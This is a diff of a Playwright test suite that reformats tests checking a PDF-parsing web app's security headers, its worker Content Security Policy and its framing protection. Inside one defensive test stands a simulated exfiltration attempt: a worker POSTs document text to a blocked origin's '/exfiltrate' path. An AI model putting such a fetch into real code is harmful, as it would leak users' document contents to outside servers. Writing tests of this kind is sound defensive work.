@@ -27,7 +27,10 @@ function expectSecurityHeaders(headers: Record<string, string>, what: string): v
   expect(headers["permissions-policy"], what).toContain("camera=()");
 }
 
-test("every response carries the security headers: the page, worker scripts, assets and proxy refusals", async ({ page, request }) => {
+test("every response carries the security headers: the page, worker scripts, assets and proxy refusals", async ({
+  page,
+  request,
+}) => {
   const errors = trackPageErrors(page);
   const workers = await openWithWorkers(page);
   expect(workers.length).toBeGreaterThanOrEqual(2);
@@ -47,51 +50,69 @@ test("every response carries the security headers: the page, worker scripts, ass
   expect(errors).toEqual([]);
 });
 
-test("inside the workers that parse PDFs, string-eval is blocked and so is a fetch to an origin the policy leaves out", async ({ page, context }) => {
+test("inside the workers that parse PDFs, string-eval is blocked and so is a fetch to an origin the policy leaves out", async ({
+  page,
+  context,
+}) => {
   const reached: string[] = [];
   for (const origin of [BLOCKED, ALLOWED]) {
-    await context.route(`${origin}/**`, (route) => (reached.push(route.request().url()), route.fulfill({ status: 200, body: "reached" })));
+    await context.route(
+      `${origin}/**`,
+      (route) => (reached.push(route.request().url()), route.fulfill({ status: 200, body: "reached" })),
+    );
   }
   const workers = await openWithWorkers(page);
   for (const w of workers) {
-    const outcome = await w.evaluate(async ([blocked, allowed]) => {
-      // Run on a later task: DevTools lets code evaluated by the test itself eval freely.
-      const attempt = (fn: () => unknown) =>
-        new Promise<string>((resolve) =>
-          setTimeout(async () => {
-            try {
-              resolve(String(await fn()));
-            } catch (e) {
-              resolve((e as Error).name);
-            }
-          }),
-        );
-      return {
-        eval: await attempt(() => (0, eval)("6 * 7")),
-        newFunction: await attempt(() => new Function("return 6 * 7")()),
-        blocked: await attempt(
-          async () => (await fetch(`${blocked}/exfiltrate`, { method: "POST", body: "document text" })).status,
-        ),
-        // Control: the same fetch to an allowed origin is answered, so the failure above is the
-        // policy, not the network.
-        allowed: await attempt(async () => (await fetch(`${allowed}/v1/models`)).status),
-      };
-    }, [BLOCKED, ALLOWED]);
+    const outcome = await w.evaluate(
+      async ([blocked, allowed]) => {
+        // Run on a later task: DevTools lets code evaluated by the test itself eval freely.
+        const attempt = (fn: () => unknown) =>
+          new Promise<string>((resolve) =>
+            setTimeout(async () => {
+              try {
+                resolve(String(await fn()));
+              } catch (e) {
+                resolve((e as Error).name);
+              }
+            }),
+          );
+        return {
+          eval: await attempt(() => (0, eval)("6 * 7")),
+          newFunction: await attempt(() => new Function("return 6 * 7")()),
+          blocked: await attempt(
+            async () => (await fetch(`${blocked}/exfiltrate`, { method: "POST", body: "document text" })).status,
+          ),
+          // Control: the same fetch to an allowed origin is answered, so the failure above is the
+          // policy, not the network.
+          allowed: await attempt(async () => (await fetch(`${allowed}/v1/models`)).status),
+        };
+      },
+      [BLOCKED, ALLOWED],
+    );
     // The workers that parse PDFs reach no server but the app's own, not even an allowed model API.
     const parsesPdfs = /(layout-worker|pdf\.worker)[^/]*$/.test(new URL(w.url()).pathname);
-    expect(outcome, w.url()).toEqual({ eval: "EvalError", newFunction: "EvalError", blocked: "TypeError", allowed: parsesPdfs ? "TypeError" : "200" });
+    expect(outcome, w.url()).toEqual({
+      eval: "EvalError",
+      newFunction: "EvalError",
+      blocked: "TypeError",
+      allowed: parsesPdfs ? "TypeError" : "200",
+    });
   }
   expect(workers.some((w) => /pdf\.worker/.test(w.url()))).toBe(true);
   expect(reached.filter((u) => u.startsWith(BLOCKED))).toEqual([]);
   // Only the reading worker (model calls) reached the allowed origin: so route interception works in workers.
-  expect(reached.filter((u) => u.startsWith(ALLOWED)).length).toBe(workers.filter((w) => /reading-worker/.test(w.url())).length);
+  expect(reached.filter((u) => u.startsWith(ALLOWED)).length).toBe(
+    workers.filter((w) => /reading-worker/.test(w.url())).length,
+  );
   expect(reached.length).toBeGreaterThan(0);
 });
 
 test("no page can frame the app, not even one of its own origin", async ({ page }) => {
   // frame-ancestors 'none' refuses every parent. A parent on the app's own origin is the
   // case nothing else (mixed content, private-network rules) would refuse, so it shows the header at work.
-  await page.route("**/framer.html", (route) => route.fulfill({ contentType: "text/html", body: `<iframe src="/"></iframe>` }));
+  await page.route("**/framer.html", (route) =>
+    route.fulfill({ contentType: "text/html", body: `<iframe src="/"></iframe>` }),
+  );
   await page.goto("/framer.html");
   const child = () => page.frames().find((f) => f !== page.mainFrame());
   await expect.poll(() => child()?.url() ?? "", { timeout: 10_000 }).not.toBe("");
